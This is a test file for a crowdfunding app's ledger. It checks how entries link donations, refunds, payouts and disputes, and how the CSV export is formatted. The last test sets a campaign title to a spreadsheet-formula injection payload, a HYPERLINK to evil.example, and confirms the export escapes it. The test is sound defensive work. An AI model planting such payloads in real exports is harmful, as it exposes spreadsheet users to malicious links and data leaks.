import { createDisputeEndpoint } from '@muster/contract/campaigns/disputes.ts'
import { exportLedgerEndpoint } from '@muster/contract/money/ledger.ts'
import { describe, expect, test } from 'vitest'
import { type Filter, useSiteLedger } from '../../../test/site-ledger.ts'

const ledger = useSiteLedger()
const { scene, entries, rowOf, refunded, paidOut } = ledger

const fileOf = async (filter: Filter = {}) => scene.t.as(scene.admin().token)(exportLedgerEndpoint, { query: filter })

describe('an entry', () => {
  test('shows its accounts, its campaign and its donor', async () => {
    const [donation] = await entries({ q: ledger.given.donationId, kind: 'donation' })
    const { capture_id: captureId } = await rowOf(ledger.given)
    expect(donation).toMatchObject({
      kind: 'donation',
      debit: 'paypal',
      credit: 'campaign_available',
      amount: 40,
      currency: 'USD',
      source: `capture:${captureId}`,
      paypalId: captureId,
      refund: null,
      payout: null,
      disputes: [],
      campaign: { _id: scene.campaignId, title: 'Bridge over the creek', owner: { email: scene.owner.email } },
      donation: { _id: ledger.given.donationId, amount: 40, status: 'completed', donor: { email: ledger.donor.email } },
    })
  })

  test('of a refund or a payout links to it, and to the disputes about it', async () => {
    const refund = await refunded()
    const body = {
      campaignId: scene.campaignId,
      donationId: ledger.given.donationId,
      type: 'donation',
      reason: 'Twice',
    } as const
    // An open dispute about the donation would keep all of it out of the payout.
    const payout = await paidOut()
    const dispute = (await scene.t.as(ledger.donor.token)(createDisputeEndpoint, { body })).body
    expect((await entries({ q: refund._id, kind: 'refund' }))[0]).toMatchObject({
      amount: 10,
      refund: { _id: refund._id, status: 'completed', reason: 'Given twice' },
      donation: { _id: ledger.given.donationId },
      disputes: [{ _id: dispute._id, reason: 'Twice', status: 'open' }],
    })
    expect((await entries({ q: payout._id, kind: 'payout_reserved' }))[0]).toMatchObject({
      amount: payout.net,
      donation: null,
      paypalId: payout.payoutBatchId,
      payout: { _id: payout._id, net: payout.net, status: 'approved', recipientPaypalEmail: scene.owner.email },
    })
  })
})

describe('the file', () => {
  test('has a header and a line for each entry of the same filter', async () => {
    await refunded()
    const file = await fileOf({ q: ledger.donor.email })
    expect(file.headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(file.headers['content-disposition']).toMatch(/^attachment; filename="muster-ledger-\d{4}-\d\d-\d\d\.csv"$/)
    const [head, ...lines] = file.body.split('\r\n')
    expect(head).toMatch(/^\uFEFFid,bookedAt,kind,from,to,amount,currency,campaignId,campaign,owner,/)
    const found = await entries({ q: ledger.donor.email })
    expect(lines.filter(Boolean).map((line) => line.split(',')[0])).toEqual(found.map(({ _id }) => _id))
    const line = lines.find((text) => text.includes(',donation,')) ?? ''
    expect(line).toContain(`,donation,paypal,campaign_available,40.00,USD,${scene.campaignId},Bridge over the creek,`)
    expect(line).toContain(`,${ledger.donor.user.name},${ledger.donor.email},`)
  })

  test('escapes a title that looks like a formula', async () => {
    const title = `=HYPERLINK("https://evil.example/${scene.campaignId}","Open")`
    scene.campaignId = (await scene.given.campaign(scene.owner, { title }))._id
    await scene.give(5)
    const { body } = await fileOf({ q: scene.campaignId, kind: 'donation' })
    expect(body).toContain(`,"'${title.replaceAll('"', '""')}",`)
  })
})
